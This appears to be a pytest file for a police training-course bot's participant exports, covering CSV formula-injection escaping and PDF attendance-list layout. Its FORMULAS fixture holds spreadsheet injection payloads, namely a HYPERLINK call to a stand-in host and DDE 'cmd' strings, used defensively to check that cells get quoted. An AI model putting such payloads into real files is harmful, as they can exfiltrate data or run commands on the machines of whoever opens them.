"""The participant files a training office opens and files: CSV for Excel, PDF to print."""

from __future__ import annotations

import ast
import csv
import io
import re
import shutil
import struct
import subprocess
import tomllib
import zlib
from datetime import datetime, timedelta
from fnmatch import fnmatch
from pathlib import Path

import pytest
from pypdf import PdfReader

from bot.i18n import texts
from bot.render_leads import list_labels
from kurse import exports, people
from kurse import registrations as regs
from kurse.clock import BERLIN
from kurse.models import Course, Person, RegistrationStatus
from kurse.registration_lists import Participant, ParticipantList, participants
from tests import builders
from tests.harness import user

ROOT = Path(__file__).resolve().parent.parent
BOSS = 4242  # bootstrap admin (KURSBOT_ADMIN_IDS)
PRINTED = datetime(2027, 3, 1, 14, 5, tzinfo=BERLIN)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klick")',
    "+49 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
NAMES = ["Łukasz Wójcik", "Çağrı Yılmaz", "Jiří Dvořák", "Иван Петров", "Jürgen Müller"]
AGENCY_NAMES = {"PD-Z": "Polizeidirektion Zwickau", "PP-OFR": "Polizeipräsidium Oberfranken"}


@pytest.fixture
def boss():
    return {"id": BOSS, "is_bot": False, "first_name": "Chefin", "language_code": "de"}


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def flat(text: str) -> str:
    """The text with every run of white space (line breaks of wrapped cells) as one space."""
    return re.sub(r"\s+", " ", text)


def a_course(start: datetime, end: datetime, **extra) -> Course:
    values = {
        "id": 5,
        "code": "K-2027-005",
        "title": "Grenzüberschreitende Fahndung – Grundlagen",
        "location": "Hof, Polizeiinspektion",
        "start_at": start,
        "end_at": end,
        "registration_deadline": start - timedelta(days=7),
        "cancellation_deadline": start - timedelta(days=7),
        "created_at": start - timedelta(days=60),
        "updated_at": start - timedelta(days=60),
    }
    values.update(extra)
    return Course(**values)


TWO_DAYS = (datetime(2027, 3, 12, 9, tzinfo=BERLIN), datetime(2027, 3, 13, 16, tzinfo=BERLIN))
THREE_DAYS = (datetime(2027, 3, 29, 8, tzinfo=BERLIN), datetime(2027, 3, 31, 15, tzinfo=BERLIN))


def listing(course: Course, by_agency: dict[str, list[str]], waiting=()) -> ParticipantList:
    """A participant list as `participants` returns it: confirmed names by agency code, and
    the names on the waiting list."""
    signed_up = course.start_at - timedelta(days=20)

    def one(number: int, name: str, code: str, position: int | None) -> Participant:
        status = RegistrationStatus.WAITING if position else RegistrationStatus.CONFIRMED
        return Participant(number, number, name, "POK", code, status, position, signed_up, False)

    confirmed = {
        code: [one(100 * n + i, name, code, None) for i, name in enumerate(names)]
        for n, (code, names) in enumerate(sorted(by_agency.items()), start=1)
    }
    queue = [one(900 + i, name, "PD-Z", i) for i, name in enumerate(waiting, start=1)]
    return ParticipantList(course, confirmed, queue, dict(AGENCY_NAMES))


def attendance_list(the_listing: ParticipantList, language: str = "de") -> bytes:
    lead = Person(name="Lea Leitung", telegram_id=1, agency_id=1, language="de")
    labels = list_labels(texts(language), the_listing.course, lead, PRINTED)
    return exports.participants_pdf(the_listing, labels, PRINTED)


# The listing ---------------------------------------------------------------------------------


async def test_the_participant_list_carries_the_full_names_of_the_courses_agencies(
    db, clock, agencies
):
    course = builders.course(db, clock.now(), {"PP-OFR": 3, "PD-Z": 0})
    person = builders.officer(db, agencies["PP-OFR"], clock.now())
    db.call(regs.sign_up, course.id, person.id, clock.now())

    the_listing = db.call(participants, course.id, clock.now())

    assert the_listing.agency_names == {"PP-OFR": "Polizeipräsidium Oberfranken"}


# CSV ---------------------------------------------------------------------------------------


async def test_names_that_excel_would_run_as_formulas_reach_the_csv_as_text(
    h, db, clock, boss, agencies
):
    course = builders.course(db, clock.now(), {"PP-OFR": 10, "PD-Z": 10})
    for i, name in enumerate([*FORMULAS, "Anna-Lena Groß"]):
        who = user(f"Person{i}")
        await h.join(who, agencies["PP-OFR"].access_code, name, rank="+POK" if i == 0 else "POK")
        person = db.call(people.find_by_telegram_id, who["id"])
        db.call(regs.sign_up, course.id, person.id, clock.now())

    await h.send(boss, f"/teilnehmer {course.code}")
    await h.press(boss, "CSV-Datei")

    rows = read_csv(h.api.messages(BOSS)[-1].document[1])
    assert [r[2] for r in rows[1:]] == [*("'" + f for f in FORMULAS), "Anna-Lena Groß"]
    assert rows[1][1] == "'+POK"
    assert rows[2][1] == "POK"


def test_every_csv_cell_starting_with_a_formula_character_or_tab_or_return_gets_a_quote():
    course = a_course(*TWO_DAYS)
    hostile = ["\t=1+1", "\r=1+1", "=1+1", "+1", "-1", "@A1", " =1+1"]
    the_listing = listing(course, {"PP-OFR": hostile})
    labels = list_labels(texts("de"), course, None, PRINTED)

    rows = read_csv(exports.participants_csv(the_listing, labels))

    assert [r[2] for r in rows[1:]] == ["'" + name for name in hostile]
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)


def test_every_csv_the_project_writes_goes_through_the_one_safe_writer():
    writers = []
    for path in [*(ROOT / "kurse").rglob("*.py"), *(ROOT / "bot").rglob("*.py")]:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        within = {}  # node -> the innermost function around it
        for function in ast.walk(tree):
            if isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
                within.update({node: function.name for node in ast.walk(function)})
        writers += [
            f"{path.relative_to(ROOT)}:{within.get(node, '<module>')}"
            for node in ast.walk(tree)
            if isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ]

    assert writers == ["kurse/exports.py:spreadsheet_csv"]


# PDF ---------------------------------------------------------------------------------------


async def test_the_attendance_list_prints_polish_turkish_czech_and_cyrillic_names_as_they_are(
    h, db, clock, boss, agencies
):
    course = builders.course(db, clock.now(), {"PP-OFR": 10, "PD-Z": 10})
    for i, name in enumerate(NAMES):
        person = builders.officer(
            db, agencies["PD-Z" if i % 2 else "PP-OFR"], clock.now(), name=name
        )
        db.call(regs.sign_up, course.id, person.id, clock.now())

    await h.send(boss, f"/teilnehmer {course.code}")
    await h.press(boss, "PDF-Anwesenheitsliste")

    text = pdf_text(h.api.messages(BOSS)[-1].document[1])
    assert [name for name in NAMES if name not in text] == []
    assert "?" not in text
    assert "Grenzüberschreitende Fahndung – Grundlagen" in flat(text)


async def test_the_attendance_list_names_the_agencies_in_full_with_a_heading_and_print_time(
    h, db, clock, boss, agencies
):
    lead = builders.officer(db, agencies["PD-Z"], clock.now(), name="Lea Leitung")
    course = builders.course(db, clock.now(), {"PP-OFR": 10, "PD-Z": 10}, lead_id=lead.id)
    for code in ("PP-OFR", "PD-Z"):
        person = builders.officer(db, agencies[code], clock.now(), name=f"Anna {code}")
        db.call(regs.sign_up, course.id, person.id, clock.now())

    await h.send(boss, f"/teilnehmer {course.code}")
    await h.press(boss, "PDF-Anwesenheitsliste")

    text = flat(pdf_text(h.api.messages(BOSS)[-1].document[1]))
    assert text.startswith("Anwesenheitsliste")
    assert f"({course.code})" in text
    assert "Hof, Polizeiinspektion" in text
    assert "Kursleitung: Lea Leitung" in text
    assert "Polizeipräsidium Oberfranken" in text
    assert "Polizeidirektion Zwickau" in text
    assert "Gedruckt: So., 10. Januar 2027, 10:00" in text
    assert "Seite 1 von 1" in text


def test_a_two_day_course_has_one_signature_column_per_day_headed_by_its_date():
    the_listing = listing(a_course(*TWO_DAYS), {"PP-OFR": ["Anna Weiß"]})

    text = flat(pdf_text(attendance_list(the_listing)))
    english = flat(pdf_text(attendance_list(the_listing, "en")))

    assert "Unterschrift Fr. 12.03.2027" in text
    assert "Unterschrift Sa. 13.03.2027" in text
    assert "Signature Fri 12 Mar 2027" in english
    assert "Signature Sat 13 Mar 2027" in english
    assert english.startswith("Attendance list")
    assert "Page 1 of 1" in english
    assert "Printed: Mon, 1 March 2027, 14:05" in english


def test_confirmed_participants_are_grouped_under_their_agencys_full_name_waiting_left_out():
    the_listing = listing(
        a_course(*TWO_DAYS),
        {"PP-OFR": ["Anna Weiß", "Björn Groß"], "PD-Z": ["Jiří Dvořák"]},
        waiting=["Wanda Warteliste"],
    )

    text = flat(pdf_text(attendance_list(the_listing)))

    zwickau = text.index("Polizeidirektion Zwickau (PD-Z)", text.index("Gedruckt") + 1)
    oberfranken = text.index("Polizeipräsidium Oberfranken (PP-OFR)", zwickau)
    assert zwickau < text.index("Jiří Dvořák") < oberfranken < text.index("Anna Weiß")
    assert "Wanda" not in text


def test_a_course_of_three_weeks_has_a_signature_column_for_each_of_its_21_days():
    start = datetime(2027, 3, 1, 8, tzinfo=BERLIN)
    course = a_course(start, start + timedelta(days=20, hours=7))
    the_listing = listing(course, {"PP-OFR": ["Anna Weiß"], "PD-Z": ["Jiří Dvořák"]})

    reader = PdfReader(io.BytesIO(attendance_list(the_listing)))

    text = flat("\n".join(page.extract_text() for page in reader.pages))
    headed = re.findall(r"Unterschrift \w\w\. (\d\d\.\d\d\.\d{4})", text)
    assert sorted(set(headed)) == [f"{day:02d}.03.2027" for day in range(1, 22)]
    assert len(headed) == 2 * 21  # over each agency's table
    assert len(reader.pages) == 5  # five days side by side, each block on a page of its own
    assert text.count("Anna Weiß") == 5
    assert text.count("Jiří Dvořák") == 5


def test_a_name_of_120_characters_is_printed_whole_over_several_lines():
    name = (
        "Maximiliane Friederike Josephine Antonia Gräfin von Hohenfels-Wartenberg-Schönau "
        "zu Lichtenfels, Kronach und Bad Berneck"
    )
    assert len(name) == 120
    the_listing = listing(a_course(*TWO_DAYS), {"PP-OFR": [name, "Anna Weiß"]})

    text = pdf_text(attendance_list(the_listing))

    assert name in flat(text)
    assert name not in text  # it is wrapped, not squeezed into one line


def test_a_list_of_sixty_has_numbered_pages_and_the_agency_and_headings_on_every_page():
    the_listing = listing(
        a_course(*TWO_DAYS), {"PP-OFR": [f"Teilnehmer {i:02d}" for i in range(60)]}
    )

    reader = PdfReader(io.BytesIO(attendance_list(the_listing)))

    pages = [flat(page.extract_text()) for page in reader.pages]
    assert len(pages) >= 2
    assert all(f"Seite {n} von {len(pages)}" in page for n, page in enumerate(pages, start=1))
    assert all("Unterschrift Fr. 12.03.2027" in page for page in pages)
    assert all("Polizeipräsidium Oberfranken (PP-OFR)" in page for page in pages)
    assert sum(f"Teilnehmer {i:02d}" in " ".join(pages) for i in range(60)) == 60


def test_the_fonts_and_their_licence_are_package_data_so_an_installed_kursbot_has_them():
    config = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    globs = config["tool"]["setuptools"]["package-data"]["kurse"]
    files = [f"fonts/{path.name}" for path in (ROOT / "kurse" / "fonts").iterdir()]

    assert {"fonts/DejaVuSans.ttf", "fonts/DejaVuSans-Bold.ttf", "fonts/LICENSE"} <= set(files)
    assert [f for f in files if not any(fnmatch(f, glob) for glob in globs)] == []


# The rendered page -------------------------------------------------------------------------


def png_brightness(content: bytes) -> tuple[int, int, list[list[int]]]:
    """Width, height and the rows of pixel brightness (0–255) of an 8-bit grey or RGB PNG,
    as ``pdftoppm`` writes it: a small decoder, so that the test needs no imaging library."""
    assert content[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    chunks: dict[bytes, bytes] = {}
    at = 8
    while at < len(content):
        length, kind = struct.unpack(">I4s", content[at : at + 8])
        chunks[kind] = chunks.get(kind, b"") + content[at + 8 : at + 8 + length]
        at += 12 + length
    width, height, depth, colour = struct.unpack(">IIBB", chunks[b"IHDR"][:10])
    assert depth == 8, f"unexpected PNG: depth {depth}"
    assert colour in (0, 2), f"unexpected PNG: colour {colour}"
    step = 1 if colour == 0 else 3  # bytes per pixel
    stride = width * step
    raw = zlib.decompress(chunks[b"IDAT"])
    rows, previous = [], bytes(stride)
    for y in range(height):
        kind = raw[y * (stride + 1)]
        line = bytearray(raw[y * (stride + 1) + 1 : (y + 1) * (stride + 1)])
        for x in range(stride):
            left = line[x - step] if x >= step else 0
            up, up_left = previous[x], previous[x - step] if x >= step else 0
            if kind == 1:
                line[x] = (line[x] + left) & 0xFF
            elif kind == 2:
                line[x] = (line[x] + up) & 0xFF
            elif kind == 3:
                line[x] = (line[x] + (left + up) // 2) & 0xFF
            elif kind == 4:
                guess = left + up - up_left
                near = min((abs(guess - v), i) for i, v in enumerate((left, up, up_left)))[1]
                line[x] = (line[x] + (left, up, up_left)[near]) & 0xFF
        previous = bytes(line)
        rows.append([sum(line[x : x + step]) // step for x in range(0, stride, step)])
    return width, height, rows


def test_the_first_page_of_a_three_day_course_renders_in_landscape_with_heading_and_table(
    tmp_path,
):
    pdftoppm = shutil.which("pdftoppm")
    assert pdftoppm, "pdftoppm is missing: apt-get install -y poppler-utils (.ci/run does)"
    the_listing = listing(
        a_course(*THREE_DAYS), {"PP-OFR": ["Łukasz Wójcik", "Иван Петров"], "PD-Z": NAMES[1:3]}
    )
    (tmp_path / "list.pdf").write_bytes(attendance_list(the_listing))

    subprocess.run(
        [pdftoppm, "-r", "50", "-gray", "-png", "-singlefile", "list.pdf", "page"],
        cwd=tmp_path,
        check=True,
        timeout=60,
    )

    width, height, rows = png_brightness((tmp_path / "page.png").read_bytes())
    dark = [sum(1 for value in row if value < 128) for row in rows]
    assert width > height  # A4 landscape: 585 × 413 pixels at 50 dpi
    assert sum(dark[: height // 8]) > 100  # the heading
    assert sum(dark[height // 4 : height // 2]) > 1000  # the table's lines and names
    assert sum(dark) < width * height // 4  # a page, not a black box
